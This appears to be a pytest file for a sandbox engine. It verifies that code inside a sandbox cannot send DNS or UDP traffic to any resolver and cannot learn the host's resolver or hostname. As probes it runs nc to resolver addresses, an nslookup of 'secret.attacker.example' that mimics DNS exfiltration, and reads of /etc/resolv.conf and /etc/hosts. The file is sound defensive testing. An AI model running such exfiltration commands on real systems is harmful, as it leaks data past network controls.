# SPDX-License-Identifier: Apache-2.0
"""Names carry data out, and resolvers answer what firewalls forgot. Inside there is neither."""

import socket
from pathlib import Path

import pytest
from sandbox_world import sh

RESOLVERS = Path("/etc/resolv.conf")

pytestmark = [pytest.mark.anyio, pytest.mark.engine]


async def test_no_question_reaches_any_resolver_not_even_the_hosts(sandboxes_of):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("0.0.0.0", 0))
        resolver.settimeout(0.3)
        port = resolver.getsockname()[1]
        servers = ("127.0.0.1", "172.17.0.1", "8.8.8.8", "127.0.0.53")
        script = "".join(f"echo question | nc -u -w 1 {server} {port}; " for server in servers)
        async with sandboxes_of() as boxes, boxes.lease("s") as box:
            await box.run(sh(script))
            asked = await box.run(
                sh("nslookup -timeout=1 secret.attacker.example 8.8.8.8; nslookup attacker.example")
            )
        with pytest.raises(TimeoutError):
            resolver.recv(100)
    assert asked.exit_code != 0


async def test_the_sandbox_does_not_learn_the_hosts_resolver_or_name(sandboxes_of):
    async with sandboxes_of() as boxes, boxes.lease("s") as box:
        seen = (await box.run(sh("cat /etc/resolv.conf /etc/hosts /etc/hostname; hostname"))).stdout.decode()
    servers = {
        line.split()[1]
        for line in RESOLVERS.read_text().splitlines()  # noqa: ASYNC240
        if line.startswith("nameserver") and not line.split()[1].startswith("127.")
    }
    assert not [server for server in servers if server in seen]
    assert socket.gethostname() not in seen.split() or socket.gethostname() == "localhost"
